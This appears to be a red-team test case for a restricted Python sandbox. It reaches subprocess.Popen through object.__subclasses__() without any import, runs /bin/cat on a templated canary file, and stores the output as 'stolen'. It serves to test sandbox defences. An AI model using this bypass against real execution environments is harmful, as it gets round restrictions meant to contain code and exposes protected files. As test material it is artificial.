# technique: object.__subclasses__() walk to the already-loaded subprocess.Popen class (no import statement), run /bin/cat on the canary
# goal: exec
# redteam: E01 E35
import pandas as pd

popen = [c for c in object.__subclasses__() if c.__name__ == "Popen" and c.__module__ == "subprocess"][0]
child = popen(["/bin/cat", "{{CANARY_FILE}}"], stdout=-1, stderr=-1)
out, _ = child.communicate(timeout=5)
if child.returncode != 0 or not out:
    raise RuntimeError("cat failed")
df = pd.DataFrame({"stolen": [out.decode("latin-1")]})
